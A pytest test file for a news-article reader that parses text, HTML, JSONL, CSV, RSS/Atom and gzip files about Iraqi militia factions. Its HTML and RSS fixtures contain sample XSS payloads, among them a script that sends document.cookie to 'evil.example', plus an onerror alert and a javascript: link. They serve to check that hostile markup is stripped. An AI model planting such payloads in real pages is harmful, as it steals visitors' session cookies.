"""Readers in factionmap.sources: every format, bad input, dates, boilerplate, the demo corpus."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import json
import random
from importlib import resources
from pathlib import Path

import pytest

from factionmap.records import Article, ReadError, ReadWarning
from factionmap.sources import boilerplate_ranges, infer_publication_date, read_paths
from factionmap.sources.article import article_id

TODAY = dt.date(2026, 1, 15)

BODY = (
    "The Badr Organization, led by Hadi al-Amiri, said on Monday that its fighters had reached "
    "the edge of the town. A spokesman for the group said the advance would continue."
)
OTHER_BODY = "Kataib Hezbollah is part of the Popular Mobilization Forces, a commander said."


def read(*paths: Path | str, **kwargs) -> list[Article | ReadError]:
    kwargs.setdefault("today", TODAY)
    return list(read_paths(paths, **kwargs))


def articles(items: list[Article | ReadError]) -> list[Article]:
    return [x for x in items if isinstance(x, Article)]


def errors(items: list[Article | ReadError]) -> list[ReadError]:
    return [x for x in items if isinstance(x, ReadError)]


def only_error(items: list[Article | ReadError]) -> ReadError:
    assert len(items) == 1 and isinstance(items[0], ReadError), items
    return items[0]


# --- plain text ---------------------------------------------------------------------------


def test_txt_is_one_article_with_headline_and_bom_removed(tmp_path: Path) -> None:
    text = "Badr fighters push north\n\n" + BODY + "\n"
    path = tmp_path / "story.txt"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    [article] = read(path)
    assert isinstance(article, Article)
    assert article.text == text  # BOM gone, nothing else touched
    assert article.title == "Badr fighters push north"
    assert article.id == article_id(text)
    assert article.path == str(path)
    assert article.row is None


def test_txt_first_line_that_is_a_sentence_is_not_a_title(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(BODY, encoding="utf-8")
    (tmp_path / "b.md").write_text("# Heading in markdown\n\n" + OTHER_BODY, encoding="utf-8")
    first, second = read(tmp_path)
    assert isinstance(first, Article) and first.title is None
    assert isinstance(second, Article) and second.title == "Heading in markdown"


def test_txt_date_is_inferred_and_flagged(tmp_path: Path) -> None:
    path = tmp_path / "a.text"
    path.write_text("Vote count\n\nThe vote was held in 2018. Results came on May 19.", "utf-8")
    [article] = read(path)
    assert isinstance(article, Article)
    assert article.date == dt.date(2018, 5, 19)
    assert article.date_inferred is True


def test_same_text_gets_the_same_id_in_any_file(tmp_path: Path) -> None:
    (tmp_path / "one.txt").write_text(BODY, encoding="utf-8")
    (tmp_path / "two.txt").write_text(BODY, encoding="utf-8")
    (tmp_path / "three.txt").write_text(OTHER_BODY, encoding="utf-8")
    one, three, two = articles(read(tmp_path))  # sorted by file name
    assert one.id == two.id
    assert one.id != three.id
    assert len(one.id) == 64


@pytest.mark.parametrize(
    "text",
    [
        "The \u201cFatah\u201d list \u2014 Amiri\u2019s alliance \u2014 met at a caf\xe9.",
        "Le comit\xe9 a d\xe9cid\xe9 de r\xe9unir les d\xe9l\xe9gu\xe9s \xe0 Bagdad.",
    ],
)
def test_legacy_8bit_text_is_decoded(tmp_path: Path, text: str) -> None:
    path = tmp_path / "legacy.txt"
    path.write_bytes(text.encode("cp1252"))
    warning, article = read(path)
    assert isinstance(article, Article)
    assert article.text == text and article.encoding == "cp1252"
    assert isinstance(warning, ReadWarning) and "decoded as cp1252" in warning.reason


# --- HTML -----------------------------------------------------------------------------------

PAGE = """<!DOCTYPE html><html><head>
<title>Faction leader named | Test Wire</title>
<meta name="date" content="2019-03-06">
<meta property="og:site_name" content="Test Wire">
<link rel="canonical" href="https://example.org/test/1">
</head><body>
<nav><a href="/">Home</a> <a href="/world">World</a></nav>
<script>var stolen = document.cookie; fetch('https://evil.example/' + stolen);</script>
<article><h1>Faction leader named</h1>
<p>The movement named a new secretary-general on Tuesday, officials in Baghdad said, after weeks
of talks between its commanders and allied groups in the Popular Mobilization Forces.</p>
<p>The new leader <img src="x" onerror="alert('pwned')"> served for years in Syria, and his
appointment was welcomed by the Fatah Alliance. <a href="javascript:alert('link')">More</a></p>
<p>Critics said the choice showed the weight of the armed factions in politics.</p></article>
<div class="comments"><p>Comments are closed.</p></div>
<footer>All rights reserved.</footer></body></html>"""


def test_html_main_text_and_metadata(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(PAGE, encoding="utf-8")
    [article] = read(path)
    assert isinstance(article, Article)
    assert "secretary-general on Tuesday" in article.text
    assert article.title == "Faction leader named"
    assert article.date == dt.date(2019, 3, 6) and article.date_inferred is False
    assert article.source == "Test Wire"
    assert article.url == "https://example.org/test/1"
    assert "Home" not in article.text.split()


def test_hostile_html_never_reaches_the_text(tmp_path: Path) -> None:
    path = tmp_path / "page.htm"
    path.write_text(PAGE, encoding="utf-8")
    [article] = read(path)
    assert isinstance(article, Article)
    for bad in ("document.cookie", "fetch(", "onerror", "alert", "javascript:", "<script"):
        assert bad not in article.text


def test_html_without_main_text_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "empty.html"
    path.write_text("<html><head><title>x</title></head><body><nav>Home</nav></body></html>")
    error = only_error(read(path))
    assert error.path == str(path)
    assert "no main text" in error.reason


# --- JSONL ----------------------------------------------------------------------------------


def jsonl(path: Path, lines: list[object | str]) -> Path:
    rendered = [x if isinstance(x, str) else json.dumps(x) for x in lines]
    path.write_text("\n".join(rendered) + "\n", encoding="utf-8")
    return path


def test_jsonl_rows_with_aliases_extra_keys_and_bad_rows(tmp_path: Path) -> None:
    path = jsonl(
        tmp_path / "batch.jsonl",
        [
            {"id": "x1", "topic": "iraq", "title": "First", "date": "2020-01-03",
             "source": "Test Wire", "url": "https://example.org/1", "text": BODY},
            '{"title": "broken", "text": ',
            {"title": "Second", "content": OTHER_BODY},
            ["not", "an", "object"],
            {"title": "No text here", "text": "   "},
            "",
            {"title": "Third", "body": "Rockets hit the base on 3 March 2021, officials said."},
        ],
    )  # fmt: skip
    items = read(path)
    first, second, third = articles(items)
    assert (first.title, first.date, first.source, first.row) == (
        "First", dt.date(2020, 1, 3), "Test Wire", 1,
    )  # fmt: skip
    assert first.date_inferred is False and first.url == "https://example.org/1"
    assert first.id == article_id(BODY)  # the row's own "id" key does not replace the hash
    assert (second.text, second.row, second.date) == (OTHER_BODY, 3, None)
    assert (third.row, third.date, third.date_inferred) == (7, dt.date(2021, 3, 3), True)
    bad = {e.row: e.reason for e in errors(items)}
    assert set(bad) == {2, 4, 5}
    assert "malformed JSON" in bad[2]
    assert "not a JSON object" in bad[4]
    assert "no text" in bad[5]
    assert all(e.path == str(path) for e in errors(items))
    # Input order: rows come out in file order, errors in their place.
    assert [x.row for x in items] == [1, 2, 3, 4, 5, 7]


def test_unreadable_metadata_date_falls_back_to_inference(tmp_path: Path) -> None:
    row = {"date": "sometime last week", "text": "The talks of 4 June 2018 ended without a deal."}
    warning, article = read(jsonl(tmp_path / "a.ndjson", [row]))
    assert isinstance(article, Article)
    assert article.date == dt.date(2018, 6, 4) and article.date_inferred is True
    assert isinstance(warning, ReadWarning) and warning.row == 1
    assert "'sometime last week' is not a date" in warning.reason


# --- CSV ------------------------------------------------------------------------------------


def test_csv_rows_large_fields_and_bad_rows(tmp_path: Path) -> None:
    long_text = (OTHER_BODY + "\n") * 3000  # well over the csv module's default field limit
    path = tmp_path / "batch.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Title", "Date", "Source", "URL", "Text"])
        writer.writerow(["One", "2019-12-30", "Test Wire", "https://example.org/a", BODY])
        writer.writerow(["Too", "many", "fields", "in", "this", "row"])
        writer.writerow(["Long", "", "", "", long_text])
        writer.writerow(["Empty", "2019-12-30", "", "", ""])
    with path.open("a", encoding="utf-8") as handle:
        handle.write('Bad,"2019"x,,,quoting\nLast,,,,"Final row, read after the bad one."\n')
    items = read(path)
    one, long, last = articles(items)
    assert last.row == 6 and last.text == "Final row, read after the bad one."
    assert (one.title, one.date, one.url, one.row) == (
        "One", dt.date(2019, 12, 30), "https://example.org/a", 1,
    )  # fmt: skip
    assert long.text == long_text and long.row == 3
    bad = {e.row: e.reason for e in errors(items)}
    assert set(bad) == {2, 4, 5}
    assert "6 fields" in bad[2] and "no text" in bad[4] and "malformed CSV row" in bad[5]


def test_csv_without_text_column_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("title,date\nOne,2020-01-01\n", encoding="utf-8")
    assert "no text column" in only_error(read(path)).reason


# --- feeds ----------------------------------------------------------------------------------

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Test Feed</title><link>https://example.org/</link>
<item><title>Entry one</title><link>https://example.org/e1</link>
<pubDate>Sat, 04 Jan 2020 08:00:00 +0000</pubDate>
<description><![CDATA[<p>First paragraph about the PMF.</p><script>alert(1)</script>
<p>Second <b>paragraph</b> about Badr.</p>]]></description></item>
<item><title>Entry two</title><link>https://example.org/e2</link>
<description></description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom Test</title>
<entry><title>Atom entry</title><link href="https://example.org/atom/1"/>
<id>urn:x:1</id><updated>2021-04-15T07:00:00Z</updated>
<content type="html">&lt;p&gt;A drone struck near the airport.&lt;/p&gt;</content></entry>
</feed>"""


def test_rss_entries_become_articles(tmp_path: Path) -> None:
    path = tmp_path / "feed.rss"
    path.write_text(RSS, encoding="utf-8")
    items = read(path)
    [entry] = articles(items)
    assert entry.text == "First paragraph about the PMF.\nSecond paragraph about Badr."
    assert (entry.title, entry.url, entry.source, entry.row) == (
        "Entry one", "https://example.org/e1", "Test Feed", 1,
    )  # fmt: skip
    assert entry.date == dt.date(2020, 1, 4) and not entry.date_inferred
    [error] = errors(items)
    assert error.row == 2 and "no text" in error.reason


def test_atom_and_xml_feeds(tmp_path: Path) -> None:
    (tmp_path / "a.atom").write_text(ATOM, encoding="utf-8")
    (tmp_path / "b.xml").write_text(ATOM, encoding="utf-8")
    first, second = read(tmp_path)
    for entry in (first, second):
        assert isinstance(entry, Article)
        assert entry.text == "A drone struck near the airport."
        assert entry.date == dt.date(2021, 4, 15) and entry.source == "Atom Test"


def test_xml_that_is_not_a_feed_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "data.xml"
    path.write_text('<?xml version="1.0"?><config><item>1</item></config>', encoding="utf-8")
    assert "not an RSS or Atom feed" in only_error(read(path)).reason


# --- gzip -----------------------------------------------------------------------------------


def test_gz_is_read_by_its_inner_suffix(tmp_path: Path) -> None:
    path = tmp_path / "batch.jsonl.gz"
    with gzip.open(path, "wt", encoding="utf-8") as handle:
        handle.write(json.dumps({"title": "Zipped", "text": BODY}) + "\n")
    [article] = read(path)
    assert isinstance(article, Article) and article.title == "Zipped" and article.text == BODY


def test_gzip_bomb_is_stopped_at_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "bomb.txt.gz"
    with gzip.open(path, "wb") as handle:
        for _ in range(64):
            handle.write(b"A" * 1_000_000)  # 64 MB inflated, a few dozen KB on disk
    assert path.stat().st_size < 1_000_000
    error = only_error(read(path, max_bytes=1_000_000))
    assert "gzip bomb" in error.reason and "1,000,000" in error.reason


def test_corrupt_gzip_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "broken.txt.gz"
    path.write_bytes(b"\x1f\x8b\x08\x00garbage that is not deflate data")
    assert "gzip" in only_error(read(path)).reason


# --- bad input ------------------------------------------------------------------------------


def test_empty_and_whitespace_only_files(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(b"")
    (tmp_path / "b.txt").write_text("  \n\t \n", encoding="utf-8")
    items = read(tmp_path)
    assert [e.reason for e in errors(items)] == ["empty", "empty"]


def test_binary_file(tmp_path: Path) -> None:
    path = tmp_path / "image.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    assert only_error(read(path)).reason == "binary file"


def test_undecodable_file(tmp_path: Path) -> None:
    rng = random.Random(7)
    path = tmp_path / "noise.txt"
    path.write_bytes(bytes(rng.randrange(128, 256) for _ in range(3000)))
    assert only_error(read(path)).reason.startswith("cannot decode as text")


def test_oversize_file_is_refused_with_size_and_limit(tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    path.write_text("x" * 5000, encoding="utf-8")
    reason = only_error(read(path, max_bytes=4096)).reason
    assert "5,000 bytes" in reason and "4,096" in reason


def test_overlong_article_row_is_refused(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("factionmap.sources.article.MAX_ARTICLE_CHARS", 100)
    path = jsonl(tmp_path / "rows.jsonl", [{"text": "word " * 50}, {"text": "short text"}])
    items = read(path)
    assert isinstance(items[0], ReadError) and items[0].row == 1
    assert "over the limit of 100" in items[0].reason
    assert isinstance(items[1], Article)


def test_a_single_path_may_be_given_bare(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text(BODY, encoding="utf-8")
    [article] = read_paths(str(path), today=TODAY)
    assert isinstance(article, Article) and article.text == BODY


def test_missing_path_and_unsupported_type(tmp_path: Path) -> None:
    (tmp_path / "table.xlsx").write_bytes(b"PK\x03\x04")
    missing = only_error(read(tmp_path / "nope.txt"))
    assert missing.reason == "no such file or directory"
    assert "unsupported file type '.xlsx'" in only_error(read(tmp_path / "table.xlsx")).reason


# --- directories ----------------------------------------------------------------------------


def test_directory_walk_is_sorted_recursive_and_skips_hidden(tmp_path: Path) -> None:
    (tmp_path / "b").mkdir()
    (tmp_path / "a").mkdir()
    (tmp_path / ".hidden").mkdir()
    (tmp_path / "b" / "2.txt").write_text("second story about Badr", encoding="utf-8")
    (tmp_path / "a" / "1.txt").write_text("first story about the PMF", encoding="utf-8")
    (tmp_path / "a" / ".draft.txt").write_text("hidden draft", encoding="utf-8")
    (tmp_path / ".hidden" / "x.txt").write_text("hidden folder", encoding="utf-8")
    (tmp_path / "README.md").write_text("Notes about this folder", encoding="utf-8")
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff")
    (tmp_path / "z.txt").write_text("last story about Nujaba", encoding="utf-8")
    (tmp_path / "a" / "loop").symlink_to(tmp_path, target_is_directory=True)
    extra = tmp_path / "b" / "2.txt"
    items = read(tmp_path, extra)  # input order: the whole folder, then the extra file
    assert [x.text for x in items] == [
        "first story about the PMF",
        "second story about Badr",
        "last story about Nujaba",
        "second story about Badr",
    ]


# --- boilerplate ----------------------------------------------------------------------------


_CAPTION = "Fighters of a militia march in a parade in the capital"


@pytest.mark.parametrize(
    ("text", "furniture"),
    [
        (  # stock lines and a caption printed twice
            f"{_CAPTION}\n"
            "The group said its leader would attend the talks.\n"
            f"{_CAPTION} (photo credit: Example Agency)\n"
            "Share this article\n"
            "Comments are closed.\n"
            "  Follow us on Twitter and Telegram  \n"
            "© 2020 Example Media. All rights reserved.\n"
            "Share this article with anyone who reads about the war in the north, he said.\n",
            [
                f"{_CAPTION} (photo credit: Example Agency)",
                "Share this article",
                "Comments are closed.",
                "Follow us on Twitter and Telegram",
                "© 2020 Example Media. All rights reserved.",
            ],
        ),
        (  # photo-gallery and video-player controls inside lines
            "Photos: Photos: Floods in the valley Floods in the valley – Villagers wade through "
            "a flooded street in the valley on May 2. Hide Caption 1 of 12 Photos: Floods in the "
            "valley Floods in the valley – A rescue boat reaches a roof. Hide Caption 2 of 12\n"
            "Photos taken by the army show the bridge. The minister said: Photos: none.\n"
            "Talks resumed. JUST WATCHED Envoy visits the port Replay More Videos ... MUST WATCH "
            "Envoy visits the port 02:47 The envoy left on Monday.\n"
            "Image copyright Example Agency Image caption The envoy at the port\n"
            "Image copyright Example Agency\n",
            [
                "Photos: Photos: Floods in the valley Floods in the valley –",
                "Hide Caption 1 of 12",
                "Photos: Floods in the valley Floods in the valley –",
                "Hide Caption 2 of 12",
                "JUST WATCHED Envoy visits the port Replay More Videos ... MUST WATCH Envoy visits "
                "the port 02:47",
                "Image copyright Example Agency",
                "Image caption",
                "Image copyright Example Agency",
            ],
        ),
        (  # a hover card glued into the sentence after the name it describes
            "Sen. Omar Tahir Omar (Sam) Khalid TahirSenate passes water bill Tahir visits dam "
            "MORE (D-Ohio) said the militia withdrew. They need MORE time.\n",
            ["Omar (Sam) Khalid TahirSenate passes water bill Tahir visits dam MORE"],
        ),
        (  # photo credits in their usual forms; agencies named in a sentence stay
            "Envoys Meet In The Capital\n"
            "Enlarge this image toggle caption Lena J. Marsh/AFP via Getty Images\n"
            "Militia leaders met the envoy on Monday. (Photo: Tom Vale, AP) The talks ended.\n"
            "A convoy leaves the base. (AP Photo/Rana Idris)\n"
            "Rescuers search the rubble. Photograph: Omar Hadi/Reuters\n"
            "An AP/NORC poll and a Reuters/Ipsos poll found support for the truce.\n",
            [
                "Enlarge this image toggle caption Lena J. Marsh/AFP via Getty Images",
                "(Photo: Tom Vale, AP)",
                "(AP Photo/Rana Idris)",
                "Photograph: Omar Hadi/Reuters",
            ],
        ),
    ],
)
def test_boilerplate_ranges_cover_page_furniture(text: str, furniture: list[str]) -> None:
    assert [text[s:e] for s, e in boilerplate_ranges(text)] == furniture


def test_article_carries_boilerplate_ranges_into_its_text(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text(BODY + "\nClick here to subscribe\n", encoding="utf-8")
    [article] = read(path)
    assert isinstance(article, Article)
    assert [article.text[s:e] for s, e in article.boilerplate] == ["Click here to subscribe"]


# --- date inference -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The truce of June 4, 2018 held. Fighting resumed on 9 July 2018.", dt.date(2018, 7, 9)),
        ("Officials met on 2019-11-02 in Baghdad.", dt.date(2019, 11, 2)),
        ("The alliance was formed in January 2020.", dt.date(2020, 1, 1)),
        ("The vote took place in 2018. Results came on May 19.", dt.date(2018, 5, 19)),
        ("Rockets hit on 27 December 2019. Strikes came on December 29.", dt.date(2019, 12, 29)),
        ("Talks opened on Friday, June 8, in Baghdad.", dt.date(2018, 6, 8)),
        ("Mosul fell in June 2014. The brigades paraded on June 21.", dt.date(2014, 6, 21)),
        ("Foes since 1979, they met on Friday, June 8, and on June 12.", dt.date(2018, 6, 12)),
        ("The talks were held on June 8.", None),
        ("The group was founded in 2013.", None),
        ("He said they may 12 times have tried.", None),
        ("No dates at all in this one.", None),
    ],
)
def test_infer_publication_date(text: str, expected: dt.date | None) -> None:
    assert infer_publication_date(text, TODAY) == expected


def test_inferred_date_is_never_after_today() -> None:
    text = "A summit is planned for March 3, 2027. It was announced on Sunday, March 3."
    # March 3 fell on a Sunday in 2024; 2027 is after "today" and so ignored.
    assert infer_publication_date(text, TODAY) == dt.date(2024, 3, 3)


def test_weekday_rule_picks_the_latest_year_the_weekday_fits() -> None:
    # June 8 fell on a Friday in 2007, 2012 and 2018 (next in 2029): the latest before today.
    text = "The coalition was founded in 2005. The results were announced on Friday, June 8."
    assert infer_publication_date(text, TODAY) == dt.date(2018, 6, 8)
    assert infer_publication_date(text, dt.date(2018, 6, 7)) == dt.date(2012, 6, 8)
    # No year named at all: the weekday alone still places it.
    assert infer_publication_date("Talks ended on Friday, June 8.", TODAY) == dt.date(2018, 6, 8)


# --- the bundled demo corpus ----------------------------------------------------------------


def test_demo_corpus_reads_cleanly() -> None:
    demo = resources.files("factionmap") / "data" / "demo"
    items = read(str(demo))
    assert errors(items) == []
    found = articles(items)
    assert len(found) >= 12
    assert len({a.id for a in found}) == len(found)
    assert all(a.date is not None and a.title for a in found)
    for article in found:
        words = len(article.text.split())
        assert 150 <= words <= 350, (article.title, words)
    [text_file] = [a for a in found if a.path and a.path.endswith(".txt")]
    assert text_file.date_inferred and text_file.date == dt.date(2014, 6, 21)
    assert sum(a.date_inferred for a in found) == 1
